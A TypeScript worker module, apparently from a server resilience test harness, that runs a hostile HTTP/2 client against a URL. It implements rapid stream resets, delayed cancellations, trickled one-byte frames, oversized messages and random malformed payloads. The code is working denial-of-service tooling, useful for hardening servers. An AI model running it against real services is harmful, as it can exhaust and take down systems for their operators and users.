/** A client that means ill, in one of several ways; runs on a thread of its own. */

import { randomBytes } from 'node:crypto'
import {
  type ClientHttp2Session,
  type ClientHttp2Stream,
  connect,
  constants,
  type OutgoingHttpHeaders,
  type SecureClientSessionOptions,
} from 'node:http2'
import { setTimeout as sleep } from 'node:timers/promises'
import { parentPort, workerData } from 'node:worker_threads'
import { trickle } from './trickle.ts'

/** What the storm is to do. */
export interface Storm {
  /** Streams that are reset at once, cancelled a little later, or never complete; bad requests. */
  readonly kind: 'reset' | 'cancelled' | 'one-byte frames' | 'oversized' | 'malformed'
  readonly url: string
  readonly tls: SecureClientSessionOptions
  readonly headers: OutgoingHttpHeaders
  /** A good request, with its frame. */
  readonly message: Uint8Array
  readonly durationMs: number
}

/** What it did. */
export interface StormReport {
  readonly streams: number
  readonly connections: number
}

const STREAMS_AT_ONCE = 100
/** After so many milliseconds at most a stream is cancelled. */
const CANCELLED_MS = 10
const OVERSIZED_BYTES = 256 * 1024
const MALFORMED_BYTES = 300
const TRICKLING_STREAMS = 64
const FRAME_HEAD_BYTES = 5

/** Sends a request on a stream. */
const SEND: Readonly<Record<string, (stream: ClientHttp2Stream, message: Uint8Array) => void>> = {
  reset: (stream, message) => stream.end(message, () => stream.close(constants.NGHTTP2_CANCEL)),
  cancelled(stream, message) {
    stream.end(message)
    setTimeout(() => stream.close(constants.NGHTTP2_CANCEL), Math.random() * CANCELLED_MS)
  },
  oversized: (stream) => stream.end(framed(Buffer.alloc(OVERSIZED_BYTES))),
  malformed: (stream) => stream.end(framed(randomBytes(1 + Math.random() * MALFORMED_BYTES))),
}

async function storm(task: Storm): Promise<StormReport> {
  const { kind, url, tls, durationMs } = task
  const untilMs = performance.now() + durationMs
  let [streams, connections] = [0, 0]
  while (performance.now() < untilMs) {
    connections += 1
    if (kind === 'one-byte frames') {
      const { hostname: host, port } = new URL(url)
      const beginning = framed(Buffer.alloc(60_000)).subarray(0, FRAME_HEAD_BYTES)
      const options = { headers: task.headers, beginning, streams: TRICKLING_STREAMS, untilMs }
      await trickle({ host, port: Number(port), tls: { ...tls }, ...options } as never)
      streams += TRICKLING_STREAMS
    } else {
      const session = connect(url, tls)
      session.on('error', () => {})
      streams += await stormOn(session, task, untilMs)
      session.destroy()
    }
    await sleep(5)
  }
  return { streams, connections }
}

/** Storms until the session or the time has ended; answers with how many streams. */
async function stormOn(
  session: ClientHttp2Session,
  { kind, headers, message }: Storm,
  untilMs: number,
): Promise<number> {
  let [streams, open] = [0, 0]
  while (performance.now() < untilMs && !session.closed && !session.destroyed) {
    // Only rapid resets are worth more streams than the server answers.
    while (kind === 'reset' || open < STREAMS_AT_ONCE) {
      const stream = session.request(headers)
      stream.on('error', () => {})
      stream.on('close', () => {
        open -= 1
      })
      stream.resume()
      SEND[kind]?.(stream, message)
      streams += 1
      open += 1
      if (streams % STREAMS_AT_ONCE === 0) break
    }
    await sleep(0)
  }
  return streams
}

function framed(message: Uint8Array): Buffer {
  const head = Buffer.alloc(FRAME_HEAD_BYTES)
  head.writeUInt32BE(message.length, 1)
  return Buffer.concat([head, message])
}

parentPort?.postMessage(await storm(workerData as Storm))
